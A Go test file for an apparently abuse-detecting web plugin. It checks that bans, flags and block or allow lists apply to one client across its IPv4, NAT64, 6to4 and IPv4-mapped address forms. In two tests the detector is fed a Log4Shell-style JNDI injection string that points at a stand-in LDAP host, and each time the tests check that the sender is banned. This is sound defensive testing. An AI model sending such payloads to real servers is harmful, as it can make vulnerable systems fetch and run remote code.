package abuse_test

import (
	"fmt"
	"net/netip"
	"testing"
	"time"

	"github.com/gatebook/gatebook/plugin/abuse"
	"github.com/gatebook/gatebook/record"
)

// sameClient are addresses that are counted as 203.0.113.7.
var sameClient = []string{"203.0.113.7", "::ffff:203.0.113.7", "64:ff9b::203.0.113.7", "2002:cb00:7107::1", "2002:cb00:7107:5::9"}

// spelt returns a client, a browser, of an address.
func spelt(addr string) abuse.Client {
	return abuse.Client{Addr: netip.MustParseAddr(addr), UserAgent: browser, Path: "/", Method: "GET"}
}

// A client is the same one whether it comes over IPv4, NAT64 or 6to4: what it does is
// counted together, its flag is that of the IPv4 address, and its ban holds for all.
func TestNAT64And6to4AreCountedAsIPv4(t *testing.T) {
	d, now := newDetector(t, abuse.Config{Enforce: true}), start
	for i := range 40 {
		r := visit(netip.MustParseAddr(sameClient[i%len(sameClient)]), fmt.Sprintf("/missing/%d", i))
		r.Status = 404
		now = now.Add(100 * time.Millisecond)
		d.Observe(&abuse.Request{Request: r}, now)
	}
	flags := d.TakeChanged()
	if len(flags) != 1 || flags[0].Subject.Value != "203.0.113.7/32" {
		t.Fatalf("the flags are %+v", flags)
	}
	exploit := visit(netip.MustParseAddr("64:ff9b::203.0.113.7"), "/")
	exploit.Query = "a=${jndi:ldap://x.example/a}"
	d.Observe(&abuse.Request{Request: exploit}, now)
	for _, addr := range sameClient {
		if v := d.Admit(spelt(addr), now.Add(time.Second)); v.Verdict != record.VerdictBan {
			t.Errorf("%s: %+v", addr, v)
		}
	}
	for _, addr := range []string{"203.0.113.8", "64:ff9b::203.0.113.8", "2002:cb00:7108::1"} {
		if v := d.Admit(spelt(addr), now.Add(time.Second)); v.Verdict != record.VerdictPass {
			t.Errorf("a neighbour, %s: %+v", addr, v)
		}
	}
}

// A decision about one spelling holds for all of them, and clearing another one ends it.
func TestDecisionsOnNAT64And6to4(t *testing.T) {
	for i, named := range sameClient {
		d := newDetector(t, abuse.Config{Enforce: true})
		f, err := d.Decide(record.FlagSubject{Kind: record.AddressSubject, Value: named}, record.Decision{Decision: record.DecideBan}, start)
		if err != nil || f.Subject.Value != "203.0.113.7/32" {
			t.Fatalf("%s: %+v %v", named, f.Subject, err)
		}
		for _, addr := range sameClient {
			if v := d.Admit(spelt(addr), start); v.Verdict != record.VerdictBan {
				t.Errorf("banned as %s, %s: %+v", named, addr, v)
			}
		}
		other := sameClient[(i+1)%len(sameClient)]
		if _, err := d.Decide(record.FlagSubject{Kind: record.AddressSubject, Value: other}, record.Decision{Decision: record.DecideClear}, start); err != nil {
			t.Fatal(err)
		}
		if v := d.Admit(spelt(named), start); v.Verdict != record.VerdictPass {
			t.Errorf("cleared as %s, %s: %+v", other, named, v)
		}
	}
}

// Lists name one spelling and hold for all. Who pretends to be a private address by
// NAT64 or 6to4 is not exempt.
func TestListsOnNAT64And6to4(t *testing.T) {
	for _, named := range []string{"203.0.113.0/24", "64:ff9b::203.0.113.0/120", "2002:cb00:7100::/40", "::ffff:203.0.113.0/120"} {
		listed := lists(listOf(t, abuse.Block, named))
		listed.Enforce = true
		blocking := newDetector(t, listed)
		listed.Allow = []netip.Prefix{netip.MustParsePrefix(named)}
		allowing := newDetector(t, listed)
		for _, addr := range sameClient {
			if v := blocking.Admit(spelt(addr), start); v.Verdict != record.VerdictBan {
				t.Errorf("%s blocked, %s: %+v", named, addr, v)
			}
			if v := allowing.Admit(spelt(addr), start); v.Verdict != record.VerdictPass {
				t.Errorf("%s allowed, %s: %+v", named, addr, v)
			}
		}
	}
	d := newDetector(t, abuse.Config{Enforce: true})
	for _, addr := range []string{"64:ff9b::10.0.0.1", "2002:a00:1::1", "2002:7f00:1::1"} {
		r := visit(netip.MustParseAddr(addr), "/")
		r.Query = "a=${jndi:ldap://x.example/a}"
		d.Observe(&abuse.Request{Request: r}, start)
		if v := d.Admit(spelt(addr), start); v.Verdict != record.VerdictBan {
			t.Errorf("%s: %+v", addr, v)
		}
	}
}
